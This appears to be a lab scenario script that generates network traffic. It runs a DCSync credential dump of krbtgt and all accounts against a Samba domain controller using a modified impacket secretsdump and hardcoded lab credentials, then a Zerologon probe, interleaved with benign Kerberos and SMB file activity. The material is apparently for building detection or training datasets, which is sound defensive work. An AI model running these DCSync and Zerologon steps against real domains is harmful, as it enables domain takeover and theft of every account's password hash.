# sourced by run-scenario.sh: the story played between the hosts
# Domain takeover steps against a Samba AD DC (realm LAB.LOCAL, dc1): an attacker holding a Domain
# Admin's password (svc_sql, cracked after Kerberoasting in ad-roast-psexec) runs a DCSync with
# impacket secretsdump (tools/secretsdump-samba.py: impacket's own script, with the one prefix-table
# entry Samba requires added to DsGetNCChanges): the endpoint mapper (135) gives DRSUAPI's TCP port, then DsBind and
# DsGetNCChanges ask the DC to replicate secrets, first of krbtgt alone (-just-dc-user krbtgt),
# then of every account (-just-dc-ntlm: the users are listed over SAMR on SMB first). Then a
# Zerologon attempt (tools/zerologon-probe.py): Netlogon bound without authentication,
# NetrServerReqChallenge with a zero client challenge and NetrServerAuthenticate3 for DC1$ with a
# zero credential, up to 256 times; Samba 4.17 is patched, so every try is refused
# (STATUS_ACCESS_DENIED). Meanwhile a benign user (carol) gets a Kerberos ticket with kinit and
# copies files on the dept share with smbclient.
NET=172.31.231; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
EXTRA_HOSTS="$NET.10 dc1.lab.local"
source "$HERE/lib/samba-dc.sh"
services() { samba_dc_start; }
benign_smb() {   # carol: kinit (AS-REQ with pre-auth), smbclient with Kerberos to the dept share, both ways
  printf 'Minutes of the Monday meeting\n- budget\n- hiring\n' > "$RUN/minutes.txt"
  echo 'Winter!2026c' | nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" kinit carol@LAB.LOCAL >>"$RUN/logs/kinit.log" 2>&1 || true
  ( cd "$RUN" && nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" smbclient //dc1.lab.local/dept --use-kerberos=required \
      --option='client min protocol=SMB2' -c "ls; put minutes.txt; get budget-2027.txt $RUN/budget-copy.txt; ls" >>"$RUN/logs/smbclient-carol.log" 2>&1 ) || true
}
play() {
  note "attacker $A; domain controller dc1.lab.local $V (Samba 4.17 AD DC, realm LAB.LOCAL: Kerberos 88, LDAP 389, SMB 445, RPC 135 + dynamic ports); benign workstation (carol) $C; dns $D"
  for h in cli att; do mkdir -p "/etc/netns/$P-$h"; printf '127.0.0.1 localhost\n%s dc1.lab.local dc1\n' $V > "/etc/netns/$P-$h/hosts"; printf 'nameserver %s\n' $D > "/etc/netns/$P-$h/resolv.conf"; done
  note "0 benign: carol gets a TGT with kinit and a cifs ticket, lists the dept share, puts minutes.txt and gets budget-2027.txt (smbclient, Kerberos, SMB2/3)"
  benign_smb
  sleep 2
  note "0b attacker locates the domain controllers in DNS (dc1's own DNS server): SRV _ldap._tcp.dc._msdcs.lab.local, then A dc1.lab.local"
  nsx att dig +short @$V _ldap._tcp.dc._msdcs.lab.local SRV >"$RUN/logs/dig.log" 2>&1 || true
  nsx att dig +short @$V dc1.lab.local A >>"$RUN/logs/dig.log" 2>&1 || true
  sleep 1
  note "1 DCSync of krbtgt: impacket secretsdump 'LAB/svc_sql:Mssql2019!@$V' -just-dc-user LAB/krbtgt (NTLM; tools/secretsdump-samba.py: impacket's secretsdump with the schemaInfo prefix entry Samba requires): SMB session, EPM map of DRSUAPI (135), DRSUAPI bind (packet privacy: stubs sealed), DsBind, DsDomainControllerInfo, DsCrackNames LAB\\krbtgt, DsGetNCChanges (EXOP_REPL_OBJ) → krbtgt's NT hash and AES keys"
  ( cd "$RUN" && nsx att timeout 60 /usr/bin/python3 "$HERE/tools/secretsdump-samba.py" 'LAB/svc_sql:Mssql2019!@'$V -just-dc-user 'LAB/krbtgt' >"$RUN/logs/secretsdump-krbtgt.log" 2>&1 </dev/null ) || true   # in $RUN: secretsdump leaves a session-resume file in its directory when it fails
  sleep 2
  note "2 DCSync of every account: secretsdump -just-dc-ntlm with the same account: SAMR over SMB (\\pipe\\samr) lists the users, then DsCrackNames + DsGetNCChanges per account → NT hashes of all accounts"
  ( cd "$RUN" && nsx att timeout 90 /usr/bin/python3 "$HERE/tools/secretsdump-samba.py" 'LAB/svc_sql:Mssql2019!@'$V -just-dc-ntlm >"$RUN/logs/secretsdump-ntlm.log" 2>&1 </dev/null ) || true
  sleep 2
  note "3 benign: carol copies minutes.txt again"
  benign_smb
  sleep 2
  note "4 Zerologon attempt (tools/zerologon-probe.py DC1 $V 256): EPM map of Netlogon (135), unauthenticated bind to Netlogon over TCP, then per try NetrServerReqChallenge (opnum 4, client challenge 00*8) + NetrServerAuthenticate3 (opnum 26, account DC1\$, ServerSecureChannel, credential 00*8, flags 0x212fffff); Samba 4.17 is patched: STATUS_ACCESS_DENIED (0xc0000022) each time"
  nsx att timeout 120 /usr/bin/python3 "$HERE/tools/zerologon-probe.py" DC1 $V 256 >"$RUN/logs/zerologon.log" 2>&1 </dev/null || true
  note "  $(tail -1 "$RUN/logs/zerologon.log")"
  sleep 1
}
